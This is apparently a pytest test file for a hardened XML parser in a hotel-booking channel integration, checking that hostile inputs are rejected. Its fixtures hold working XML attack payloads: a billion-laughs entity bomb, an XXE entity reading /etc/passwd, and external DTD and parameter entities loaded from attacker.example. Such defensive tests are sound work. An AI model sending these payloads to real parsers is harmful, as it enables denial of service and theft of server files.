from __future__ import annotations

import pytest

from channels.base import MalformedPayloadError
from channels.xmlsafe import local_name, parse_xml

BILLION_LAUGHS = b"""<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
]>
<OTA_HotelResNotifRQ>&lol4;</OTA_HotelResNotifRQ>"""

XXE = b"""<?xml version="1.0"?>
<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<BookingRetrievalRS><Booking id="&xxe;"/></BookingRetrievalRS>"""

EXTERNAL_DTD = b"""<?xml version="1.0"?>
<!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd">
<r>&ext;</r>"""

PARAMETER_ENTITY = b"""<?xml version="1.0"?>
<!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/p.dtd"> %p;]><r/>"""


def test_parses_plain_xml_with_namespaces() -> None:
    root = parse_xml(b'<a xmlns="urn:x"><b id="1">Zo\xc3\xab</b></a>', "booking.com")
    assert local_name(root) == "a"
    assert root[0].text == "Zoë"


@pytest.mark.parametrize(
    "body", [BILLION_LAUGHS, XXE, EXTERNAL_DTD, PARAMETER_ENTITY], ids=["laughs", "xxe", "dtd", "param"]
)
def test_hostile_xml_rejected_naming_partner(body: bytes) -> None:
    with pytest.raises(MalformedPayloadError) as err:
        parse_xml(body, "expedia")
    assert err.value.channel == "expedia"
    assert "DOCTYPE" in str(err.value)
    assert "root:" not in str(err.value)  # /etc/passwd never leaks into the message


def test_doctype_hidden_by_utf16_encoding_rejected() -> None:
    body = '<?xml version="1.0" encoding="UTF-16"?><!DOCTYPE a [<!ENTITY e "x">]><a>&e;</a>'
    with pytest.raises(MalformedPayloadError, match="DOCTYPE"):
        parse_xml(body.encode("utf-16"), "agoda")


def test_undeclared_entity_is_malformed_not_expanded() -> None:
    with pytest.raises(MalformedPayloadError, match="booking.com: malformed XML"):
        parse_xml(b"<a>&xxe;</a>", "booking.com")


@pytest.mark.parametrize("body", [b"", b"   ", b"<a><b></a>", b"<a>", b"not xml", b"<a/>\x00<<garbled"])
def test_malformed_bodies(body: bytes) -> None:
    with pytest.raises(MalformedPayloadError) as err:
        parse_xml(body, "booking.com")
    assert err.value.transient is False


def test_str_input_accepted() -> None:
    assert parse_xml("<a>ü</a>", "x").text == "ü"
